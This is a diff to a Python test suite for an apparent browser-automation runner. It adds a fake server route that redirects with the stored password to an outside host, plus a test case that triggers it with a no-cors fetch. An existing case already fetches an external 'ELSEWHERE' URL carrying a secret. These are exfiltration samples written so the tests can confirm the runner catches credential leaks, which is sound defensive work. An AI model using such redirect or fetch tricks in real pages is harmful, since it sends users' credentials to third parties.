@@ -48,6 +48,9 @@ class Handler(BaseHTTPRequestHandler):
         self.server.got.append((self.path, str(self.headers), ""))
         signed_in = "session=yes" in self.headers.get("Cookie", "")
         path = self.path.partition("?")[0]
+        if path == "/leak":
+            to = self.path.partition("?to=")[2]
+            return self.answer(307, Location=f"{to}/?q={quote(PASSWORD, safe='')}")
         if path in self.server.extra:
             return self.answer(200, self.server.extra[path])
         if path == "/":
@@ -183,6 +186,7 @@ def test_every_step_is_a_page_of_the_run_and_no_credential_is_kept(walk, kind, s
         ("    raise ValueError(secret('APPLY_PASSWORD'))", "failed", "raised ValueError"),
         ("    import asyncio; await asyncio.sleep(60)", "hung", "not done within"),
         ("    await page.goto('ELSEWHERE/')", "redirect-off-scope", "out of the site"),
+        ("    await page.evaluate(\"fetch('/leak?to=ELSEWHERE', {mode: 'no-cors'})\")", "failed", "credential"),
         ("    await page.context.clear_cookies(); await page.goto('ROOT/apply'); await audit('x')",
          "sign-in", "session"),
         ("    await page.evaluate(\"fetch('ELSEWHERE/?q=' + encodeURIComponent('VALUE'))\")", "failed", "credential"),
